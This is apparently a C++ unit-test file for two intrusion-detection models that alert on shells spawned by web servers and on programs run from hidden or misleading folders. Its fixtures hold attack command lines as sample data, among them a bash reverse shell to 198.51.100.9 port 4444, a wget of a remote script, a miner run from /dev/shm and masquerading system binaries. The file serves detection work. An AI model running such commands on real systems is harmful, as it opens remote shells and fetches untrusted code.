// Tests of host/web-server-spawned-shell and host/hidden-binary-execution.
#include <memory>
#include <string>

#include <gtest/gtest.h>

#include "detect/model.h"
#include "detect/testing.h"

namespace vigil::detect {
namespace {

using harness::EventFactory;
using harness::MakeModel;
using harness::Feed;
using harness::kTestEpoch;
using harness::TestContext;

Event Proc(EventFactory& f, Micros t, const std::string& ip, const std::string& parent,
           const std::string& folder_path, const std::string& cmd) {
  ProcessBody p;
  p.device_id = "mde-web01";
  p.device_name = "web01";
  p.action_type = "ProcessCreated";
  std::string name = folder_path.substr(folder_path.find_last_of("/\\") + 1);
  p.file_name = f.Keep(name);
  p.folder_path = f.Keep(folder_path);
  p.command_line = f.Keep(cmd);
  p.account_name = "www-data";
  p.parent_file_name = f.Keep(parent);
  p.parent_folder_path = f.Keep("/usr/bin/" + parent);
  return f.Other(t, EventKind::kProcess, p, {EntityType::kDevice, ip, "web01"});
}

// A web server that runs its health-check script every 5 minutes for 3 days, and the
// usual system programs.
void Routine(Model& m, TestContext& ctx, EventFactory& f, const std::string& ip) {
  for (int i = 0; i < 3 * 288; ++i) {
    Micros t = kTestEpoch + i * 5 * kMicrosPerMinute;
    Feed(m, ctx, Proc(f, t, ip, "node", "/usr/bin/sh", "sh -c /opt/health/check.sh"));
    Feed(m, ctx, Proc(f, t + 1, ip, "sh", "/usr/bin/curl", "curl -fsS http://127.0.0.1:8080/health"));
    if (i % 12 == 0)
      Feed(m, ctx, Proc(f, t + 2, ip, "systemd", "/usr/sbin/sshd", "/usr/sbin/sshd -D"));
  }
}

TEST(WebServerShell, RoutineHealthCheckScriptStaysQuiet) {
  auto m = MakeModel("host/web-server-spawned-shell");
  ASSERT_NE(m, nullptr);
  TestContext ctx(m->info());
  EventFactory f;
  Routine(*m, ctx, f, "10.1.2.3");
  EXPECT_TRUE(ctx.Breaches().empty());
  EXPECT_LE(ctx.emitted().size(), 1u);  // at most the very first sight, a weak signal
}

TEST(WebServerShell, NewShellFromTheWebServerFiresOnTheDeviceAtItsTime) {
  auto m = MakeModel("host/web-server-spawned-shell");
  TestContext ctx(m->info());
  EventFactory f;
  ctx.set_learning_until(kTestEpoch + kMicrosPerDay);
  Routine(*m, ctx, f, "10.1.2.3");
  Micros t = kTestEpoch + 3 * kMicrosPerDay + 17 * kMicrosPerMinute;
  Feed(*m, ctx, Proc(f, t, "10.1.2.3", "node", "/usr/bin/bash",
                     "bash -c 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'"));
  auto b = ctx.Breaches();
  ASSERT_EQ(b.size(), 1u);
  EXPECT_EQ(b[0].model, "host/web-server-spawned-shell");
  EXPECT_EQ(b[0].entity.id, "10.1.2.3");
  EXPECT_EQ(b[0].time, t);
  EXPECT_GE(b[0].score, 80);
  EXPECT_EQ(b[0].details["parent"], "node");
  EXPECT_EQ(b[0].details["child"], "bash");
  EXPECT_EQ(b[0].mitre[0], "T1505.003");
}

TEST(WebServerShell, DownloaderFromPhpFpmFiresAndOtherParentsAreIgnored) {
  auto m = MakeModel("host/web-server-spawned-shell");
  TestContext ctx(m->info());
  EventFactory f;
  ctx.set_learning_until(kTestEpoch + kMicrosPerDay);
  Routine(*m, ctx, f, "10.1.2.3");
  Micros t = kTestEpoch + 4 * kMicrosPerDay;
  // sshd -> bash is an admin logging in, not a web server.
  Feed(*m, ctx, Proc(f, t, "10.1.2.3", "sshd", "/usr/bin/bash", "-bash"));
  EXPECT_TRUE(ctx.Breaches().empty());
  Feed(*m, ctx, Proc(f, t + 1, "10.1.2.3", "php-fpm8.1", "/usr/bin/wget",
                     "wget -q http://198.51.100.9/x.sh -O /tmp/x.sh"));
  auto b = ctx.Breaches();
  ASSERT_EQ(b.size(), 1u);
  EXPECT_EQ(b[0].time, t + 1);
  EXPECT_EQ(b[0].details["parent"], "php-fpm8.1");
  EXPECT_NE(std::find(b[0].mitre.begin(), b[0].mitre.end(), "T1105"), b[0].mitre.end());
  // Windows: w3wp.exe -> cmd.exe.
  Feed(*m, ctx, Proc(f, t + 2, "10.1.2.3", "w3wp.exe", "C:\\Windows\\System32\\cmd.exe",
                     "cmd.exe /c whoami"));
  EXPECT_EQ(ctx.Breaches().size(), 2u);
}

TEST(HiddenBinary, ProgramFromAHiddenFolderOnAQuietServerFires) {
  auto m = MakeModel("host/hidden-binary-execution");
  ASSERT_NE(m, nullptr);
  TestContext ctx(m->info());
  EventFactory f;
  ctx.set_learning_until(kTestEpoch + kMicrosPerDay);
  Routine(*m, ctx, f, "10.1.2.3");
  EXPECT_TRUE(ctx.emitted().empty());  // sh, curl, sshd from their own folders
  Micros t = kTestEpoch + 3 * kMicrosPerDay + kMicrosPerHour;
  Feed(*m, ctx, Proc(f, t, "10.1.2.3", "bash", "/dev/shm/.x/miner", "/dev/shm/.x/miner -o pool"));
  auto b = ctx.Breaches();
  ASSERT_EQ(b.size(), 1u);
  EXPECT_EQ(b[0].model, "host/hidden-binary-execution");
  EXPECT_EQ(b[0].entity.id, "10.1.2.3");
  EXPECT_EQ(b[0].time, t);
  EXPECT_EQ(b[0].details["class"], "hidden");
  EXPECT_EQ(b[0].mitre, (std::vector<std::string>{"T1564.001"}));
}

TEST(HiddenBinary, SystemToolNameFromTheWrongFolderFires) {
  auto m = MakeModel("host/hidden-binary-execution");
  TestContext ctx(m->info());
  EventFactory f;
  Micros t = kTestEpoch;
  Feed(*m, ctx, Proc(f, t, "10.1.2.4", "bash", "/var/lib/sshd", "sshd -D"));
  Feed(*m, ctx, Proc(f, t + 1, "10.1.2.4", "bash", "/opt/x/kworker", "[kworker/0:1]"));
  Feed(*m, ctx, Proc(f, t + 2, "10.1.2.4", "explorer.exe", "C:\\Users\\bob\\svchost.exe", "svchost.exe"));
  Feed(*m, ctx, Proc(f, t + 3, "10.1.2.4", "services.exe", "C:\\Windows\\System32\\svchost.exe",
                     "svchost.exe -k netsvcs"));
  auto b = ctx.Breaches();
  ASSERT_EQ(b.size(), 3u);
  for (const auto& x : b) {
    EXPECT_EQ(x.details["class"], "masquerade");
    EXPECT_EQ(x.mitre, (std::vector<std::string>{"T1036.005"}));
    EXPECT_EQ(x.entity.id, "10.1.2.4");
  }
  EXPECT_EQ(b[2].time, t + 2);
}

TEST(HiddenBinary, ARoutineTempProgramFiresAtMostOnceAndTempOnAFreshDeviceIsWeak) {
  auto m = MakeModel("host/hidden-binary-execution");
  TestContext ctx(m->info());
  EventFactory f;
  for (int day = 0; day < 20; ++day)
    Feed(*m, ctx, Proc(f, kTestEpoch + day * kMicrosPerDay, "10.1.2.5", "cron",
                       "/tmp/agent-updater", "/tmp/agent-updater --check"));
  EXPECT_EQ(ctx.emitted().size(), 1u);
  EXPECT_TRUE(ctx.Breaches().empty());  // a device with no history: temp alone is weak
  EXPECT_EQ(ctx.emitted()[0].breach.details["class"], "temporary");
}

}  // namespace
}  // namespace vigil::detect
